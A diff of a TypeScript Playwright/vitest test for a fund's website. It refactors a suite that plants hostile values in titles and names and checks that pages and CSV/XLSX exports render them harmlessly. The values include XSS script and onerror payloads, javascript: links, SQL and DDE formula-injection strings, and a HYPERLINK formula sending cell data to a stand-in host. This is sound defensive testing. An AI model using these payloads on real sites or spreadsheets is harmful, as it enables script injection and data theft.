@@ -1,8 +1,11 @@
-/** A fund whose words would harm whoever takes them for more than words: a whole site is built of them, and read. */
+/**
+ * A fund whose words would harm whoever takes them for more than words: a whole site is built of them, and read.
+ *
+ * @module-tag complet
+ */
 import { rmSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import path from 'node:path';
-import type { Page } from 'playwright-core';
 import readExcel from 'read-excel-file/node';
 import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
 import { splitCsv } from '../pipeline/lib/csv';
@@ -11,30 +14,17 @@ import { makeDepot } from '../pipeline/lib/redditions';
 import { change, csvOf, PROPRE, type Registre, RegistreFund } from '../pipeline/lib/registre';
 import { editorOf, linkOf, readStatus } from './lib/explorer';
 import { type Harness, openBrowser, type OpenedPage } from './lib/harness';
+import { expectHarmless, ORGANISMES, readHarm, RUN, TITRES, TRAHI } from './lib/mots-hostiles';
 import { startNewSite } from './lib/new-site';
 
-/** Each would set this, were it run. */
-const TRAHI = 'trahi';
-const run = `window.${TRAHI}=1`;
-
-const TITRES = [
-  `</title></script><script>${run}</script><img src=x onerror="${run}">`,
-  `'; DROP TABLE projets; -- " ; \${${run}} {{${run}}} {@html ${run}}`,
-  `\u202Eenvers\u2066 <svg onload="${run}"> \u2028 javascript:${run} ${'sans fin '.repeat(11_000)}`.trim(),
-];
-const ORGANISMES = [
-  `=HYPERLINK("http://vole.example/?"&A1;"Cliquez")`,
-  `<iframe srcdoc="<script>parent.${TRAHI}=1</script>"></iframe>`,
-  `@SUM(1+1)*cmd|' /C calc'!A0`,
-];
-const TEMOIGNAGE = `=cmd|' /C calc'!A0 <script>${run}</script> [lien](javascript:${run}) \u202Eenvers`;
-const LONGUE = `<b onmouseover="${run}">${'long texte '.repeat(9000)}</b>`;
+const TEMOIGNAGE = `=cmd|' /C calc'!A0 <script>${RUN}</script> [lien](javascript:${RUN}) \u202Eenvers`;
+const LONGUE = `<b onmouseover="${RUN}">${'long texte '.repeat(9000)}</b>`;
 const RENOMMES = new Map([
   ...PROPRE.projets.map((p, i) => [p['Titre'], TITRES[i]!] as const),
   ...PROPRE.organismes.map((o, i) => [o['Nom'], ORGANISMES[i]!] as const),
   ['Appel de l’automne 2021', `<img src="http://vole.example/a.png"> ${TITRES[0]!}`],
-  ['Annonce de novembre 2021', `--><script>${run}</script>]]>`],
-  ['Cendreville', `Cendreville"><script>${run}</script>`],
+  ['Annonce de novembre 2021', `--><script>${RUN}</script>]]>`],
+  ['Cendreville', `Cendreville"><script>${RUN}</script>`],
 ]);
 
 /** The clean register with its words changed wherever they stand, so that all still refer to the same things. */
@@ -68,7 +58,7 @@ async function putFund(root: string): Promise<void> {
     'utf-8',
   );
   fund.edit('fonds.yaml', 'nom: Fondation du Héron', `nom: '<b>Fondation</b> & <i>"fils"</i>'`);
-  fund.edit('reference/territoires.csv', 'Crête-au-Vent', '"<img src=x onerror=""' + run + '"">"');
+  fund.edit('reference/territoires.csv', 'Crête-au-Vent', '"<img src=x onerror=""' + RUN + '"">"');
 }
 
 let harness: Harness;
@@ -87,29 +77,6 @@ afterEach(async () => {
   expect(opened.complaints).toEqual([]);
   await opened.close();
 });
-
-interface Seen {
-  readonly ran: boolean;
-  readonly strange: readonly string[];
-  readonly links: readonly string[];
-}
-
-/** What ran, and what stands in the page that a word asked for. */
-const readHarm = (page: Page): Promise<Seen> =>
-  page.evaluate((name) => {
-    const strange =
-      'iframe, b[onmouseover], img[src="x"], img[src^="http"], svg[onload], [onerror]';
-    return {
-      ran: name in window,
-      strange: [...document.querySelectorAll(strange)].map((e) => e.outerHTML),
-      links: [...document.querySelectorAll('a[href]')]
-        .map((a) => a.getAttribute('href') ?? '')
-        .filter((href) => /^javascript:|vole\.example/i.test(href)),
-    };
-  }, TRAHI);
-
-const expectHarmless = async (page: Page): Promise<void> =>
-  expect(await readHarm(page)).toEqual({ ran: false, strange: [], links: [] });
 
 it.each([
   ...['/', '/vallee', '/vallee/projets', '/vallee/projets/P-1', '/vallee/organismes'],
@@ -133,7 +100,7 @@ it('shows each title and name to the letter, with what is chosen too', async () 
   for (const nom of ORGANISMES) expect(await body()).toContain(nom.replace(/\s+/g, ' '));
   await page.getByLabel('Organisme', { exact: true }).selectOption({ label: ORGANISMES[1]! });
   await page.waitForURL(/organisme=/);
-  await expect.poll(body, { timeout: 120_000 }).not.toContain(TITRES[0]);
+  await expect.poll(body).not.toContain(TITRES[0]);
   expect(await body()).toContain(TITRES[1]!.replace(/\s+/g, ' '));
   await expectHarmless(page);
 });
@@ -167,10 +134,7 @@ it.each(['CSV', 'XLSX'])('gives them back as words in %s', async (format) => {
   await page.goto('/vallee/projets');
   await page.waitForLoadState('networkidle');
   const button = page.getByRole('button', { name: new RegExp(`en ${format}\\s:`) }).first();
-  const [file] = await Promise.all([
-    page.waitForEvent('download', { timeout: 120_000 }),
-    button.click(),
-  ]);
+  const [file] = await Promise.all([page.waitForEvent('download'), button.click()]);
   const bytes = await readFile(await file.path());
   const cells =
     format === 'CSV'
